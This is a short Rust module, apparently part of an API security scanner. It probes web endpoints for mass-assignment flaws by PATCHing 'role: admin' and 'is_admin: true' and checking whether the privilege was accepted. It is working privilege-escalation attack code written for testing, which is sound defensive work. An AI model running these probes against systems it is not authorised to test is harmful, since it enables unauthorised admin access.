//! A role that nobody gave.

use http::Method;
use serde_json::Value;

use super::Probing;
use crate::client::{ClientError, Probe};
use crate::report::Outcome;

attack!("mass-role", MassAssignment, Code, "What if I add `role: admin` to my profile?", run);

const PRIVILEGES: [(&str, &str); 2] = [("role", "admin"), ("is_admin", "true")];

async fn run(p: Probing<'_>) -> Result<Outcome, ClientError> {
    let mut last = None;
    for endpoint in p.surface.plain(&Method::PATCH) {
        for (field, value) in PRIVILEGES {
            let mut body = serde_json::json!({});
            body[field] = value.into();
            let (answer, exchange) = p.send(&p.mine(Probe::json(Method::PATCH, endpoint.path.clone(), &body))).await?;
            // Read back from the answer, which shows the object as it is now.
            let taken = answer.json().and_then(|o| o.get(field).cloned()) == Some(Value::from(value));
            if answer.status.is_success() && taken {
                return Ok(Outcome::exploited(format!("{} took {field}: {value}", endpoint.path), vec![exchange]));
            }
            last = Some(exchange);
        }
    }
    Ok(match last {
        Some(exchange) => Outcome::blocked("no privilege was taken", vec![exchange]),
        None => Outcome::not_applicable("nothing can be patched"),
    })
}
